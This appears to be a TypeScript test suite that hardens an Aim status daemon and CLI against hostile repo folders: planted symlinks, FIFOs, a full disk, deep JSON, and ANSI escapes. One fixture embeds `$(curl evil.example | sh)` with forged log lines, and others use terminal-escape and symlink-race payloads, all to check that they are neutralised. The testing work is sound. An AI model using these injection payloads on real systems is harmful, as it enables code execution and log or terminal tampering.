// A hostile or broken repo folder cannot hurt anyone: links, FIFOs, folders and devices planted
// where the package keeps its state, with real daemon and training processes, real attackers
// (child processes planting links), a real full disk (a small tmpfs) and the real CLI.
// Timings are generous upper bounds; the figures are printed.
import t from 'tap'
import { execFileSync, spawnSync } from 'node:child_process'
import { closeSync, existsSync, lstatSync, mkdirSync, openSync, readFileSync, readdirSync, symlinkSync, writeFileSync, writeSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { startChild } from './support/child.js'
import { BIN, deadOwner, makeRepo, sleep, startDaemon } from './fixtures/daemon/helpers.js'
import { ManualClock } from '../lib/clock.js'
import { CheckinWriter } from '../lib/aim/checkin-writer.js'
import { ensureDaemon } from '../lib/daemon-launch.js'
import { repoPaths } from '../lib/repo.js'
import { exitMarkerPath, statusLayout } from '../lib/state/layout.js'
import { watch, Watcher } from '../lib/index.js'
import { eventually } from './support/eventually.js'

// Not about the default daemon: the watchers opened in this process start none (tests that need one start it).
process.env['AIM_STATUS_DAEMON'] = '0'

const TRAIN = fileURLToPath(new URL('./fixtures/daemon/train.mjs', import.meta.url))
const ATTACKER = fileURLToPath(new URL('./fixtures/hostile/attacker.mjs', import.meta.url))
const mkfifo = (path: string): void => void execFileSync('mkfifo', [path])

/** Waits for `check` to hold, polling; fails after `ms` (a generous bound). */
async function until(check: () => boolean, ms: number, what: string): Promise<void> {
  await eventually(check, what, { timeoutMs: ms, intervalMs: 50 })
}

const alive = (pid: number): boolean => {
  try {
    process.kill(pid, 0)
    return true
  } catch {
    return false
  }
}

/** The peak resident memory of a process, MiB (VmHWM). */
const peakRssMiB = (pid: number): number => Number(/VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1]) / 1024

t.test('a link at daemon.log: never followed; an exception text with $(...) and a newline stays one escaped line', async (t) => {
  const base = t.testdir({ repo: {}, home: { '.bashrc': 'echo original\n' } })
  const root = makeRepo(join(base, 'repo'))
  const rc = join(base, 'home', '.bashrc')
  const status = repoPaths(root).status
  mkdirSync(status, { recursive: true })
  symlinkSync(rc, join(status, 'daemon.log'))
  // A dead process's exit marker whose error text was chosen by whoever wrote the repo.
  const owner = deadOwner()
  const forged = '2024-01-01T00:00:00.000Z INFO  forged event'
  const marker = { format: 'aim-status/exit', version: 1, owner, exitedAt: Date.now(), exitCode: 1, signal: null, error: `Error: $(curl evil.example | sh)\n${forged}\u001b[2J`, unfinishedRuns: ['victim_run'] }
  mkdirSync(join(status, 'exits'), { recursive: true })
  writeFileSync(exitMarkerPath(statusLayout(repoPaths(root)), owner.id), JSON.stringify(marker))
  const started = await ensureDaemon(root, { pollMs: 200, staleMs: 2000 })
  t.equal(started.started, true)
  const pid = started.pid as number
  t.teardown(() => void (alive(pid) && process.kill(pid, 'SIGKILL')))
  const log = join(status, 'daemon.log')
  await until(() => lstatSync(log).isFile() && readFileSync(log, 'utf8').includes('victim_run'), 20_000, 'the failure in daemon.log')
  await sleep(300)
  process.kill(pid, 'SIGTERM')
  await until(() => !alive(pid), 15_000, 'the daemon to stop on SIGTERM')
  t.equal(readFileSync(rc, 'utf8'), 'echo original\n', 'the file behind the link is untouched')
  const aside = readdirSync(status).filter((n) => n.startsWith('daemon.log.corrupt-'))
  t.equal(aside.length, 1, 'the link was set aside')
  t.ok(lstatSync(join(status, aside[0] as string)).isSymbolicLink())
  const lines = readFileSync(log, 'utf8')
    .split('\n')
    .filter((l) => l !== '')
  // Records start with their time; the logger notifier's lines are its message, one line each.
  t.ok(
    lines.every((l) => !l.startsWith('2024-01-01T00:00:00.000Z')),
    'no line forged',
  )
  t.ok(
    lines.filter((l) => !/^\d{4}-\d\d-\d\dT/.test(l)).every((l) => l.includes('victim_run')),
    "every other line is the logger notifier's message",
  )
  t.ok(
    lines.some((l) => l.includes('log-set-aside')),
    'the daemon says it set the link aside',
  )
  const failed = lines.find((l) => l.includes('victim_run') && l.includes(' failed '))
  t.ok(failed, 'the run was reported failed')
  t.match(failed, /\$\(curl evil\.example \| sh\)\\\\n2024-01-01T00:00:00\.000Z INFO {2}forged event\\\\x1b\[2J/, 'the text is escaped on its line')
  t.notOk(lines.join('\n').includes('\u001b'), 'no escape character reaches the log')
})

t.test('an attacker planting links at the next check-in names: nothing outside is written, the run still reports and finishes', async (t) => {
  const base = t.testdir({ repo: {}, victim: { 'data.bin': 'precious' } })
  const root = makeRepo(join(base, 'repo'))
  const victim = join(base, 'victim', 'data.bin')
  const folder = repoPaths(root).checkins
  mkdirSync(folder, { recursive: true })
  // 1. Names known in advance (the writer's wall clock is fixed): every one of idx 1..6 is a link.
  const attacker = startChild(ATTACKER, ['plant', folder, 'planted_run', victim, '1700000000', '6'])
  t.match(await attacker.waitForLine(/^PLANTED/), /^PLANTED 90$/)
  const clock = new ManualClock()
  const writer = CheckinWriter.open({ folder, hash: 'planted_run', clock, wallNow: () => 1_700_000_000_000 })
  writer.sync(clock.now() + 5000)
  clock.advance(10_000)
  writer.sync(clock.now() + 1000)
  writer.finish()
  t.ok(writer.idx > 6, `every taken name was passed over (newest idx ${writer.idx})`)
  const mine = readdirSync(folder).filter((n) => !lstatSync(join(folder, n)).isSymbolicLink())
  t.equal(mine.length, 3, 'one file per flag, each a plain file of its own')
  t.ok(mine.some((n) => n.includes('-finished-')))
  // 2. A real training process reports and finishes while the attacker sprays the next names.
  const sprayer = startChild(ATTACKER, ['spray', folder, 'sprayed_run', victim, '6000'])
  t.teardown(() => void sprayer.process.kill('SIGKILL'))
  await sprayer.waitForLine('SPRAYING')
  const train = startChild(TRAIN, [root, 'sprayed_run', 'finish'])
  t.teardown(() => void train.process.kill('SIGKILL'))
  t.equal((await train.exited).code, 0, 'the run finished')
  const planted = await sprayer.waitForLine(/^PLANTED/)
  t.comment(`links planted while the run reported: ${planted.split(' ')[1]}`)
  t.equal(readFileSync(victim, 'utf8'), 'precious', 'the file behind every link is untouched')
  const finished = readdirSync(folder).filter((n) => n.startsWith('sprayed_run-') && n.includes('-finished-') && lstatSync(join(folder, n)).isFile())
  t.equal(finished.length, 1, 'its finished check-in is a plain file of its own')
})

t.test('FIFOs in owners/, exits/ and at config.json: the daemon still reports a SIGKILLed run, status answers, SIGTERM ends it', async (t) => {
  const root = makeRepo(t.testdir())
  const paths = repoPaths(root)
  const layout = statusLayout(paths)
  mkdirSync(layout.owners, { recursive: true })
  mkdirSync(layout.exits, { recursive: true })
  mkdirSync(paths.notifications, { recursive: true })
  mkfifo(join(layout.owners, 'fifo_owner.json'))
  mkfifo(join(layout.exits, 'fifo_marker.json'))
  mkfifo(paths.config)
  const before = spawnSync(process.execPath, [BIN, '--repo', root, 'status'], { encoding: 'utf8', timeout: 30_000 })
  t.equal(before.status, 0, 'aim-watcher status answers with a FIFO in owners/')
  t.match(before.stdout, /unreadable snapshot fifo_owner: .*FIFO/)
  const daemon = startDaemon([root])
  t.teardown(() => void daemon.process.kill('SIGKILL'))
  await daemon.waitEvent((l) => l.event === 'active')
  const train = startChild(TRAIN, [root, 'killed_run', 'loop'])
  t.teardown(() => void train.process.kill('SIGKILL'))
  await train.waitForLine('READY')
  const killedAt = Date.now()
  train.process.kill('SIGKILL')
  const failed = await daemon.waitEvent((l) => l.event === 'failed' && l['hash'] === 'killed_run')
  const ms = Date.parse(String(failed['time'])) - killedAt
  t.comment(`SIGKILL -> failed, with FIFOs in the folder: ${ms} ms`)
  t.ok(ms < 15_000, 'reported within seconds')
  const unsafe = daemon.events().filter((l) => String(l['error'] ?? '').includes('FIFO'))
  t.ok(unsafe.length >= 1 && unsafe.length <= 4, `each FIFO is said about once (${unsafe.length} lines)`)
  t.ok(lstatSync(paths.config).isFIFO(), "the config FIFO is left alone (it is Aim's file)")
  const statusRun = spawnSync(process.execPath, [BIN, '--repo', root, 'status', '--json'], { encoding: 'utf8', timeout: 30_000 })
  t.equal(statusRun.status, 0, `aim-watcher status answers (${statusRun.stderr})`)
  const stoppedAt = Date.now()
  daemon.process.kill('SIGTERM')
  t.equal((await daemon.exited).code, 0)
  t.comment(`SIGTERM -> exit: ${Date.now() - stoppedAt} ms`)
})

t.test('a FIFO at config.json: `await watch()` proceeds without configuration and says why with a code', async (t) => {
  const root = makeRepo(t.testdir())
  const paths = repoPaths(root)
  mkdirSync(paths.notifications, { recursive: true })
  mkfifo(paths.config)
  const watcher = await Watcher.open({ repo: root })
  const errors: Array<{ code?: string }> = []
  watcher.on('error', (error: Error) => void errors.push(error as Error & { code?: string }))
  const run = await watch({ repo: root, hash: 'fifo_config' })
  run.reportProgress(60)
  await until(() => errors.length > 0, 10_000, 'the error event')
  t.equal(errors[0]?.code, 'AIM_STATUS_UNSAFE_FILE')
  await run.reportSuccessfulFinish()
  await watcher.close()
})

t.test('a dangling link at daemon.fence-1: a daemon still becomes active', async (t) => {
  const root = makeRepo(t.testdir())
  const status = repoPaths(root).status
  mkdirSync(status, { recursive: true })
  symlinkSync(join(root, 'nowhere'), join(status, 'daemon.fence-1'))
  const daemon = startDaemon([root])
  t.teardown(() => void daemon.process.kill('SIGKILL'))
  const active = await daemon.waitEvent((l) => l.event === 'active' || l.event === 'standby')
  t.match(active, { event: 'active', generation: 2 })
  t.notOk(existsSync(join(root, 'nowhere')), 'nothing was made at the link target')
  daemon.process.kill('SIGTERM')
  t.equal((await daemon.exited).code, 0)
})

t.test('a folder, a /dev/zero link and a snapshot of a newer version named like snapshots: no flood, memory bounded', async (t) => {
  const root = makeRepo(t.testdir())
  const layout = statusLayout(repoPaths(root))
  mkdirSync(join(layout.owners, 'folder_owner.json'), { recursive: true })
  symlinkSync('/dev/zero', join(layout.owners, 'zero_owner.json'))
  writeFileSync(join(layout.owners, 'newer_owner.json'), JSON.stringify({ format: 'aim-status/snapshot', version: 99 }))
  const daemon = startDaemon([root])
  t.teardown(() => void daemon.process.kill('SIGKILL'))
  await daemon.waitEvent((l) => l.event === 'active')
  // About twenty polls (200 ms) and any number of file events.
  await sleep(4000)
  const about = (id: string) => daemon.events().filter((l) => l['owner'] === id)
  for (const id of ['folder_owner', 'zero_owner', 'newer_owner']) t.ok(about(id).length === 1, `${id}: said once (${about(id).length} lines)`)
  const fences = readdirSync(layout.owners).filter((n) => /^(folder|zero|newer)_owner\.json\.fence-/.test(n))
  t.same(fences, [], 'no fence claimed for what could not be read')
  t.ok(existsSync(join(layout.owners, 'newer_owner.json')), 'a newer version is left in place')
  t.equal(readdirSync(layout.owners).filter((n) => n.includes('.corrupt-')).length, 2, 'the folder and the link were set aside')
  const rss = peakRssMiB(daemon.process.pid as number)
  t.comment(`daemon: ${daemon.events().length} log lines in 4 s, peak RSS ${rss.toFixed(0)} MiB`)
  t.ok(daemon.events().length < 20, 'a handful of log lines in all')
  t.ok(rss < 300, 'memory stays bounded')
  daemon.process.kill('SIGTERM')
  t.equal((await daemon.exited).code, 0)
})

t.test('a full disk (a 64k tmpfs), or else an unwritable folder: watch() rejects with a code naming the path, nothing half-written', async (t) => {
  const base = t.testdir()
  const mount = join(base, 'small')
  mkdirSync(mount)
  let mode: 'ENOSPC' | 'EACCES'
  try {
    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=64k', 'tmpfs', mount], { stdio: 'ignore' })
    mode = 'ENOSPC'
  } catch {
    mode = 'EACCES'
  }
  t.comment(`case run: ${mode}`)
  const root = makeRepo(mount)
  const layout = statusLayout(repoPaths(root))
  mkdirSync(layout.owners, { recursive: true })
  mkdirSync(layout.exits, { recursive: true })
  if (mode === 'ENOSPC') {
    const fd = openSync(join(mount, 'filler'), 'w')
    try {
      for (;;) writeSync(fd, Buffer.alloc(4096, 1))
    } catch (error) {
      t.equal((error as NodeJS.ErrnoException).code, 'ENOSPC', 'the tmpfs is full')
    } finally {
      closeSync(fd)
    }
  } else {
    execFileSync('chmod', ['0500', layout.owners])
  }
  const error = await watch({ repo: root, hash: 'full_disk' }).then(
    () => null,
    (e: unknown) => e as { code?: string; path?: string; message: string },
  )
  t.match(error, { code: mode === 'ENOSPC' ? 'AIM_STATUS_STATE_FULL' : 'AIM_STATUS_STATE_UNWRITABLE', message: /owners/ })
  t.match(error?.path, /owners/)
  t.same(
    readdirSync(layout.owners).filter((n) => n.includes('.fence-') || n.includes('.tmp-')),
    [],
    'no half-written claim or temp file',
  )
  if (mode === 'ENOSPC') execFileSync('umount', ['-l', mount])
})

t.test('ANSI in a notifier id, a status of 1 and a field nested 5000 deep: `notifiers list` answers with coded problems, nothing reaches the terminal raw', async (t) => {
  const root = makeRepo(t.testdir())
  const paths = repoPaths(root)
  mkdirSync(paths.notifications, { recursive: true })
  const evil = '\u001b]0;pwned\u0007\u001b[31mred\u001b[0m'
  const deep = `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`
  const text = `{"notifications":{"version":"1.0","notifiers":{${JSON.stringify(evil)}:{"id":${JSON.stringify(evil)},"type":"logger","arguments":{},"status":"enabled"},"status_one":{"id":"status_one","type":"logger","arguments":{},"status":1},"deep_one":{"id":"deep_one","type":"logger","arguments":{"message":${deep}},"status":"enabled"}}}}`
  writeFileSync(paths.config, text)
  const list = spawnSync(process.execPath, [BIN, '--repo', root, 'notifiers', 'list'], { encoding: 'utf8', timeout: 30_000 })
  t.equal(list.status, 0, list.stderr)
  // eslint-disable-next-line no-control-regex
  t.notMatch(list.stdout, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, 'no control character in the output')
  t.match(list.stdout, /red/)
  t.match(list.stdout, /status_one .*skipped/)
  // The reasons are in the wide listing, escaped the same way.
  const wide = spawnSync(process.execPath, [BIN, '--repo', root, 'notifiers', 'list', '--wide'], { encoding: 'utf8', timeout: 30_000 })
  t.equal(wide.status, 0, wide.stderr)
  // eslint-disable-next-line no-control-regex
  t.notMatch(wide.stdout, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, 'no control character in the wide output')
  t.match(wide.stdout, /status_one .*skipped: .*status/)
  t.match(wide.stdout, /deep_one .*AIM_STATUS_INVALID_NOTIFIER.*nested more than 32 levels/)
  const json = spawnSync(process.execPath, [BIN, '--repo', root, 'notifiers', 'list', '--json'], { encoding: 'utf8', timeout: 30_000 })
  t.equal(json.status, 0)
  t.equal((JSON.parse(json.stdout) as unknown[]).length, 3)
  const change = spawnSync(process.execPath, [BIN, '--repo', root, 'notifiers', 'disable', 'status_one'], { encoding: 'utf8', timeout: 30_000 })
  t.not(change.status, 0)
  t.match(change.stderr, /config\.json: field "notifications\.notifiers\.deep_one\.arguments\.message\.a\.a.*" is nested more than 32 levels deep.*nothing was written/)
  t.equal(readFileSync(paths.config, 'utf8'), text, 'nothing was written')
})
